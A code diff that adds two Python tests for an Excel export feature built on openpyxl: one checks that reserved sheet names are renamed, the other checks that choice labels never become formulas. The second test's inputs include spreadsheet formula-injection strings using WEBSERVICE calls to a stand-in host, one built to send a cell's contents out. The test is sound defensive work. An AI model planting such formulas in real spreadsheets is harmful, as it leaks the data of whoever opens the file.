@@ -57,6 +57,38 @@ def single(book, key):
     return next(row[2] for row in sheet.iter_rows(min_row=4) if row[0].value == key)
 
 
+def version_of(*fields):
+    return FormVersion(definition=FormDefinition(title="示例"), number=1, content={"fields": list(fields)})
+
+
+def test_names_that_the_workbook_keeps_for_itself_are_no_sheets_of_tables():
+    column = {"key": "c", "kind": "choice", "label": "列",
+              "choices": [{"key": f"k{n}", "label": f"选项{n}" * 5} for n in range(30)]}  # fmt: skip
+    labels = ("_lists", "_LUOSHI", "history", "基本内容", "History")
+    tables = [
+        {"key": f"t{n}", "kind": "table", "label": f"{label}{' ' * n}", "columns": [column]}
+        for n, label in enumerate(labels[:4])
+    ]
+    text = {"key": "a", "kind": "text", "label": "甲"}
+    version = version_of(text, *tables)
+    values = {"a": "x", "t0": [{"_row": "r", "c": "k1"}]}
+    data = issued(values, version)
+    names = openpyxl.load_workbook(io.BytesIO(data)).sheetnames
+    assert {name.casefold() for name in names} >= {"_lists2", "_luoshi2", "history2"}
+    assert back(data, values, version).differences == []
+
+
+def test_words_of_a_choice_are_never_part_of_a_formula():
+    labels = ['"', '=WEBSERVICE("http://evil.example")', '"&WEBSERVICE("http://x?"&C4)&"', "甲,乙", "平常"]
+    choices = [{"key": f"k{n}", "label": label} for n, label in enumerate(labels)]
+    version = version_of({"key": "a", "kind": "choice", "label": "甲", "choices": choices})
+    data = issued({}, version)
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    rules = [rule.formula1 for rule in book["基本内容"].data_validations.dataValidation]
+    assert rules == ["_lists!$A$1:$A$5"]
+    assert [(cell.value, cell.data_type) for cell in book["_lists"]["A"]] == [(each, "s") for each in labels]
+
+
 def money(book, place, column):
     return book["经费"].cell(row=4 + place, column=column)
 
